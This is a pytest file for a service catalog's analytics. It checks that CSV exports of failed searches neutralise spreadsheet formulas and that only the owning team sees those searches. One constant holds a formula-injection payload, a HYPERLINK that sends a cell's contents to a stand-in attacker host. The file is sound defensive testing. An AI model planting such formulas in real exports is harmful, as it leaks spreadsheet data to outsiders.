"""Insights exports and searches: a cell a spreadsheet would run as a formula is written
as text, and only the catalog's owners read what people searched for in vain."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from servicebay.analytics.reports import Column, Table
from servicebay.core.identity import Role
from tests.factories import PASSWORD, make_offering, make_team, make_user, token_for

PLANTED = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def test_a_search_planted_as_a_formula_is_exported_as_text(client: TestClient, db: Session) -> None:
    platform = make_team(db, "platform")
    lead = make_user(db, "pat", team=platform, role=Role.LEAD)
    make_offering(db, platform, lead)
    make_user(db, "mallory")
    headers = token_for(db, lead)
    db.commit()
    client.get("/login")
    client.post(
        "/login",
        data={"username": "mallory", "password": PASSWORD, "csrf_token": client.cookies["sb_csrf"]},
    )
    for planted in (PLANTED, "@SUM(1+1)", "+1+1", "-2+3"):
        client.get("/", params={"q": planted})

    exported = client.get(
        "/api/v1/analytics/empty-searches", params={"format": "csv"}, headers=headers
    )

    rows = list(csv.reader(io.StringIO(exported.text, newline="")))
    queries = {row[0] for row in rows[1:]}
    assert queries == {"'" + PLANTED.lower(), "'@sum(1+1)", "'+1+1", "'-2+3"}
    assert all(row[1] == "1" for row in rows[1:]), "counts stay numbers"


def test_numbers_stay_numbers_and_every_formula_start_is_neutralised() -> None:
    table = Table("t", "T", [Column("text", "Text"), Column("number", "Number", numeric=True)], [])
    for cell in ("=1", "+1", "-1", "@a", "\tx", "\rx", "plain", "a\r=1"):
        table.rows.append({"text": cell, "number": -1.5})

    lines = list(csv.reader(io.StringIO(table.to_csv(), newline="")))[1:]

    assert [line[0] for line in lines] == [
        *("'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "plain"),
        "a\r=1",  # quoted: a line break inside a cell starts no row of its own
    ]
    assert {line[1] for line in lines} == {"-1.5"}


def test_consumers_read_no_one_elses_failed_searches_through_the_api_or_the_page(
    client: TestClient, db: Session
) -> None:
    platform = make_team(db, "platform")
    lead = make_user(db, "pat", team=platform, role=Role.LEAD)
    make_offering(db, platform, lead)
    member = make_user(db, team=platform)
    consumer = make_user(db, "casey", team=make_team(db, "payments"))
    make_user(db, "mallory")
    tokens = {who: token_for(db, who) for who in (member, consumer)}
    db.commit()
    client.get("/login")
    client.post(
        "/login",
        data={"username": "mallory", "password": PASSWORD, "csrf_token": client.cookies["sb_csrf"]},
    )
    client.get("/", params={"q": "payroll of the board"})

    searched = "/api/v1/analytics/empty-searches"
    assert client.get(searched, headers=tokens[consumer]).json() == []
    assert [row["query"] for row in client.get(searched, headers=tokens[member]).json()] == [
        "payroll of the board"
    ]
    client.cookies.clear()
    client.get("/login")
    client.post(
        "/login",
        data={"username": "casey", "password": PASSWORD, "csrf_token": client.cookies["sb_csrf"]},
    )
    assert "payroll of the board" not in client.get("/insights/demand").text
